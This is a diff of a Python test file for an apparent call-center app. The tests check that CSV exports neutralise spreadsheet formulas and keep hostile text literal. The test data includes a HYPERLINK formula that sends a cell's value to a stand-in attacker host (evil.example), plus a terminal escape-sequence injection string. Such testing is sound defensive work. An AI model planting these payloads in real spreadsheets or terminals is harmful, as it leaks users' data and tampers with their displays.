@@ -21,7 +21,6 @@ from dialsmile.config import Clock, Settings
 from dialsmile.core.models import Outcome
 from dialsmile.core.scripts import load_script
 from dialsmile.core.session import CallSession
-from dialsmile.io.export import _FORMULA_START, _PLAIN_NUMBER
 from dialsmile.storage.db import open_db
 from dialsmile.storage.leads import LeadStore
 from dialsmile.ui.app import make_app
@@ -65,13 +64,18 @@ def clean(result: Result) -> None:
     assert result.exception is None or isinstance(result.exception, SystemExit)
 
 
+# What a spreadsheet runs as a formula, and the numbers an export leaves bare.
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+PLAIN_NUMBER = re.compile(r"^[+-]?\d[\d\s().-]*$")
+
+
 def assert_no_formula(path: Path) -> list[dict[str, str]]:
     with path.open(encoding="utf-8", newline="") as f:
         rows = list(csv.DictReader(f))
     for row in rows:
         for value in row.values():
-            if value and value.startswith(_FORMULA_START):
-                assert _PLAIN_NUMBER.match(value), value
+            if value and value.startswith(FORMULA_START):
+                assert PLAIN_NUMBER.match(value), value
     return rows
 
 
@@ -119,7 +123,8 @@ def test_every_bad_file_through_import_session_and_export(tmp_path: Path) -> Non
     rows = assert_no_formula(leads)
     names = {r["name"] for r in rows}
     assert '\'=HYPERLINK("http://evil.example/?"&A1;"click") +SUM(1;2)' in names
-    assert "\x1b[31mRed\x1b[0m \x1b]0;pwned title\x07Lee" in names  # data kept as it was
+    # Data kept as it was, but for the invisible BEL (U+0007) that exports leave out.
+    assert "\x1b[31mRed\x1b[0m \x1b]0;pwned titleLee" in names
 
 
 async def test_the_session_screen_shows_hostile_text_literally(tmp_path: Path) -> None:
